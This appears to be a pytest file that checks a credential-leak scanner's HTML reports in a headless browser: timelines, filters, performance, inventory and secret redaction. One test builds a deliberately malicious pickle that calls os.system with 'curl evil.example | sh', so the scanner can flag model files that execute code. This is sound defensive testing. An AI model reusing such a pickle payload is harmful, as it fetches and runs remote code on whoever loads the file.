"""The HTML report in a real headless browser (Debian's chromium, driven by playwright-core
through tests/browser/drive.mjs): no request of any kind, the incident's timeline and
blast-radius card, filters, search, keyboard, the dark scheme, a 10,000-finding page
that is interactive in under 2 s, the inventory drawn by the same page, and
--show-secrets said and shown only then. Screenshots land in build/test-output/html-report/ for
a person to look at."""

from __future__ import annotations

import re
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from keyscope.cli import main
from keyscope.report.html import render_scan
from keyscope.scan import ScanOptions, scan
from tests.azurite import Azurite
from tests.browser import drive
from tests.inventory_support import commit_all, keyscope, leak, new_repo, rows
from tests.inventory_support import scan as inventory_scan
from tests.sdk import NOW, account_sas
from tests.test_git_history import Story, story  # noqa: F401 (the incident-shaped repository)
from tests.test_html_report import leaky_tree, strict_parse
from tests.test_unpack_images import Images, images  # noqa: F401 (a real image, by umoci)

ROOT = Path(__file__).resolve().parent.parent
SHOTS = ROOT / "build" / "test-output" / "html-report"


@pytest.fixture(scope="module")
def shots() -> Path:
    SHOTS.mkdir(parents=True, exist_ok=True)
    return SHOTS


@pytest.fixture(scope="module")
def incident_page(story: Story, tmp_path_factory: pytest.TempPathFactory) -> Path:  # noqa: F811
    """The 2023 story (SAS committed, re-issued with a later expiry, deleted; a connection
    string renamed then deleted) reported as HTML, the repository on a known remote."""
    repo = story.repo.path
    remotes = subprocess.run(["git", "-C", str(repo), "remote"], capture_output=True,
                             text=True, check=True).stdout.split()
    if "origin" not in remotes:
        subprocess.run(["git", "-C", str(repo), "remote", "add", "origin",
                        "git@github.com:robust/models.git"], check=True)
    out = tmp_path_factory.mktemp("html") / "incident.html"
    assert main(["scan", "-j", "1", "--now", "2026-11-26T00:00:00Z", "--format", "html",
                 "-o", str(out), str(repo)]) == 1
    return out


def only_the_page(run: dict[str, Any], page: Path) -> None:
    """The browser asked for the file itself and nothing else, and the script ran clean."""
    assert run["requests"] == [page.as_uri()]
    assert run["errors"] == []


def test_the_incident_page_shows_its_timeline_and_card_with_no_request(
    incident_page: Path, story: Story, shots: Path  # noqa: F811
) -> None:
    run = drive({"url": incident_page.as_uri(), "screenshot": str(shots / "incident.png"),
                 "fullPage": True, "pdf": str(shots / "incident.pdf")})
    only_the_page(run, incident_page)
    load = run["load"]
    assert load["report"]["interactiveAt"] > 0
    assert load["accounts"] == ["robustdata", "robustmodels"]  # worst first, then by name
    # landmarks and headings a screen reader can jump between
    assert load["landmarks"] == ["header", "main", "section", "section", "search"]
    assert load["headings"] == ["h1 keyscope report", "h2 Summary", "h2 Accounts and credentials",
                                "h3 Account robustdata", "h3 Account robustmodels"]
    [models] = [t for t in load["timelines"] if "robustmodels" in t]
    assert models == ("timeline of storage account 'robustmodels': introduced 2020-07-20, "
                      "re-issued 2021-10-05, replaced 2021-10-05, deleted 2023-06-24; "
                      "still in history")
    [data] = [t for t in load["timelines"] if "robustdata" in t]
    assert data == ("timeline of storage account 'robustdata': introduced 2020-09-01, "
                    "moved 2020-09-02, deleted 2023-06-24; still in history")
    text = load["text"]
    # the blast-radius card: services, scope, permissions with their meaning, destructive
    for fact in ("blob, file, queue, table", "r read", "d delete", "Destructive",
                 "still in history", "Revocation checklist",
                 "az storage account keys renew --account-name robustmodels"):
        assert fact in text, fact
    assert any("until 2051-10-06; now is 2026-11-26" in v for v in load["validity"])
    assert any("until 2021-10-06; now is 2026-11-26 (expired)" in v for v in load["validity"])
    # each location links to its commit on the repository's web site
    leak = story.repo.commits["leak"]
    assert f"https://github.com/robust/models/blob/{leak}/README.md#L5" in load["links"]
    strict_parse(incident_page.read_text())
    assert (shots / "incident.png").stat().st_size > 10_000
    assert (shots / "incident.pdf").read_bytes().startswith(b"%PDF")  # it prints


def test_filters_search_keyboard_and_checklist_work(incident_page: Path, shots: Path) -> None:
    steps: list[dict[str, Any]] = [
        {"fill": "#f-search", "value": "robustdata"},
        {"fill": "#f-search", "value": ""},
        {"check": "#f-sev-critical", "value": False},
        {"check": "#f-sev-critical", "value": True},
        {"select": "#f-account", "value": "robustdata"},
        {"select": "#f-account", "value": ""},
        {"fill": "#f-path", "value": "config/prod"},
        {"fill": "#f-path", "value": ""},
        {"select": "#f-provider", "value": "azure-storage"},
        {"focus": "#acct-0"},
        {"press": "ArrowDown"},
        {"press": "ArrowUp", "screenshot": str(shots / "incident-focus.png")},
        {"click": "#acct-0-step-1"},
        {"fill": "#f-search", "value": "robust"},
    ]
    run = drive({"url": incident_page.as_uri(), "steps": steps})
    only_the_page(run, incident_page)
    s = run["steps"]
    assert s[0]["accounts"] == ["robustdata"]
    assert s[0]["count"] == "showing 1 of 3 credentials, 1 accounts"
    assert s[1]["count"] == "showing 3 of 3 credentials, 2 accounts"
    # without critical: the expired first SAS (low) of robustmodels is left
    assert s[2]["accounts"] == ["robustmodels"] and s[2]["count"].startswith("showing 1 of 3")
    assert s[3]["count"].startswith("showing 3 of 3")
    assert s[4]["accounts"] == ["robustdata"]
    assert s[5]["count"].startswith("showing 3 of 3")
    assert s[6]["accounts"] == ["robustdata"]
    assert s[7]["count"].startswith("showing 3 of 3")
    assert s[8]["count"].startswith("showing 3 of 3")
    # keyboard: from the first card, down to the second and back, with a visible focus ring
    assert s[9]["focused"] == "acct-0" and s[9]["outline"] != "none"
    assert s[10]["focused"] == "acct-1"
    assert s[11]["focused"] == "acct-0"
    # a checklist step ticked stays ticked when the list is drawn again
    assert s[12]["checked"] == ["acct-0-step-1"]
    assert s[13]["checked"] == ["acct-0-step-1"]


def test_the_dark_scheme_follows_the_system(incident_page: Path, shots: Path) -> None:
    light = drive({"url": incident_page.as_uri()})["load"]["background"]
    dark = drive({"url": incident_page.as_uri(), "colorScheme": "dark",
                  "screenshot": str(shots / "incident-dark.png")})["load"]["background"]
    assert light == "rgb(255, 255, 255)"
    assert dark == "rgb(13, 17, 23)"


def test_an_image_shows_its_layers_and_a_model_file_what_would_run(
    images: Images, tmp_path: Path, shots: Path  # noqa: F811
) -> None:
    page = tmp_path / "image.html"
    main(["scan", "-j", "1", "--now", "2026-11-26T00:00:00Z", "--format", "html", "-o", str(page),
          str(images.docker)])
    run = drive({"url": page.as_uri(), "steps": [
        {"fill": "#f-search", "value": "layeracct", "screenshot": str(shots / "image.png")}]})
    only_the_page(run, page)
    [layers] = run["steps"][0]["layers"]
    assert layers == ("layers of storage account 'layeracct': added in layer 1, deleted in "
                      "layer 2; still in the image")

    import os
    import pickle

    class Evil:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, ("curl evil.example | sh",))

    (tmp_path / "models").mkdir()
    (tmp_path / "models" / "model.pkl").write_bytes(pickle.dumps(Evil()))
    page = tmp_path / "models.html"
    main(["models", "--format", "html", "-o", str(page), str(tmp_path / "models")])
    run = drive({"url": page.as_uri(), "screenshot": str(shots / "models.png")})
    only_the_page(run, page)
    text = run["load"]["text"]
    assert "Model files" in text and "executes-code" in text and "system" in text


@pytest.fixture(scope="module")
def big_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """10,001 credentials (10,000 account keys and a SAS) scanned, reported as HTML."""
    tree = tmp_path_factory.mktemp("big")
    secrets = leaky_tree(tree / "tree", 10_000)
    result = scan([str(tree / "tree")], ScanOptions(jobs=1, now=NOW))
    assert len(result.findings) == 10_001
    page = tree / "big.html"
    text = render_scan(result)
    # no secret in 19 MB of page: every key-shaped string in it is none of the keys
    assert not set(re.findall(r"[A-Za-z0-9+/]{86}==", text)) & set(secrets[:-1])
    assert secrets[-1] not in text
    page.write_text(text)
    return page


def test_ten_thousand_findings_are_interactive_in_under_two_seconds(
    big_page: Path, shots: Path
) -> None:
    steps: list[dict[str, Any]] = [
        {"fill": "#f-search", "value": "leak04242"},
        {"fill": "#f-search", "value": ""},
        {"scroll": True},
        {"check": "#f-sev-critical", "value": False},
    ]
    run = drive({"url": big_page.as_uri(), "screenshot": str(shots / "ten-thousand.png"),
                 "steps": steps})
    only_the_page(run, big_page)
    load = run["load"]
    # measured in the browser: from navigation start to the filters answering
    assert load["report"]["interactiveAt"] < 2000, load["report"]
    assert load["count"] == "showing 10001 of 10001 credentials, 10001 accounts"
    assert load["cards"] == 40  # drawn lazily, a page at a time
    s = run["steps"]
    assert s[0]["accounts"] == ["leak04242"]
    assert s[1]["cards"] == 40
    assert s[2]["cards"] == 80  # scrolling draws the next page
    assert s[3]["count"] == "showing 0 of 10001 credentials, 0 accounts"  # all critical
    print("10,001 findings:", load["report"], "filter:", [x["report"]["applyMs"] for x in s])


# --- the inventory as a page; --show-secrets said and shown only then ------------------------


def test_the_inventory_page_shows_occurrences_history_and_owners(
    azurite: Azurite, tmp_path: Path, shots: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A repository whose SAS (signed for the real Azurite) keyscope verified twice,
    then triaged; a folder whose account key was deleted between two scans. ``inventory
    list --format html`` draws both with the scan report's page: occurrences with commit,
    author, first and last seen, the verification history, triage and owners, and a
    timeline; no request, a strict parse, no secret."""
    db = str(tmp_path / "inventory.sqlite3")
    repo = new_repo(tmp_path / "models-repo")
    sas = account_sas(azurite.account, azurite.key, services="b", permission="rl",
                      expiry=datetime.now(UTC) + timedelta(hours=2))
    (repo / "train.py").write_text(f"DATA = '{azurite.blob_url}/models?{sas}'\n")
    commit = commit_all(repo, "training data", who="Alice")
    verify = ("--verify", "--allow-internal=" + azurite.blob_url.split("/")[2],
              "--verify-interval", "0", "--audit-log", str(tmp_path / "audit.jsonl"))
    inventory_scan(capsys, db, *verify, str(repo))
    inventory_scan(capsys, db, *verify, str(repo))
    [cred] = rows(db, "SELECT fingerprint FROM credentials")
    assert keyscope(capsys, "inventory", "triage", cred["fingerprint"], "--db", db,
                    "--status", "accepted-risk", "--note", "expires in two hours",
                    "--by", "sec-lead")[0] == 0
    tree = tmp_path / "tree"
    key = leak(tree / "settings.py", "acmeprod")
    inventory_scan(capsys, db, "--no-git", str(tree))
    (tree / "settings.py").unlink()
    inventory_scan(capsys, db, "--no-git", str(tree))
    page = tmp_path / "inventory.html"
    code, _ = keyscope(capsys, "inventory", "list", "--db", db, "--format", "html",
                       "-o", str(page))
    assert code == 0
    html = page.read_text()
    strict_parse(html)
    assert sas.rsplit("sig=", 1)[1] not in html and key not in html
    run = drive({"url": page.as_uri(), "screenshot": str(shots / "inventory.png"),
                 "fullPage": True})
    only_the_page(run, page)
    load = run["load"]
    assert load["headings"][:3] == ["h1 keyscope inventory", "h2 Summary",
                                    "h2 Accounts and credentials"]
    assert sorted(load["accounts"]) == sorted(["acmeprod", azurite.account])
    assert load["notice"].startswith("Secrets are redacted") and load["secrets"] == []
    text = load["text"]
    for fact in ("from the inventory (4 scans recorded)", "Verification history (2)",
                 "accepted-risk", "by sec-lead: expires in two hours", "Owners: Alice",
                 f"commit {commit[:10]}", "by Alice", "first seen", "(no longer there)",
                 "Revocation checklist"):
        assert fact in text, fact
    timelines = sorted(load["timelines"])
    assert timelines[0].startswith("timeline of storage account 'acmeprod': first-seen ")
    assert ", gone " in timelines[0]
    assert timelines[1].startswith(f"timeline of storage account '{azurite.account}': first-seen")


def test_show_secrets_is_said_and_the_secrets_shown_only_then(
    tmp_path: Path, shots: Path
) -> None:
    secrets = leaky_tree(tmp_path / "tree", 2)
    pages = {}
    for name, extra in (("redacted", []), ("shown", ["--show-secrets"])):
        pages[name] = tmp_path / f"{name}.html"
        assert main(["scan", "-j", "1", "--now", "2026-11-26T00:00:00Z", "--format", "html",
                     *extra, "-o", str(pages[name]), str(tmp_path / "tree")]) == 1
        strict_parse(pages[name].read_text())
    hidden = drive({"url": pages["redacted"].as_uri()})
    only_the_page(hidden, pages["redacted"])
    assert hidden["load"]["notice"].startswith("Secrets are redacted in this page")
    assert hidden["load"]["secrets"] == []
    assert not any(s in pages["redacted"].read_text() for s in secrets)
    shown = drive({"url": pages["shown"].as_uri(),
                   "screenshot": str(shots / "show-secrets.png")})
    only_the_page(shown, pages["shown"])
    assert shown["load"]["notice"].startswith("This page shows the secrets themselves")
    # each location's secret (a SAS's is its signature, decoded)
    assert sorted(shown["load"]["secrets"]) == sorted(unquote(s) for s in secrets)
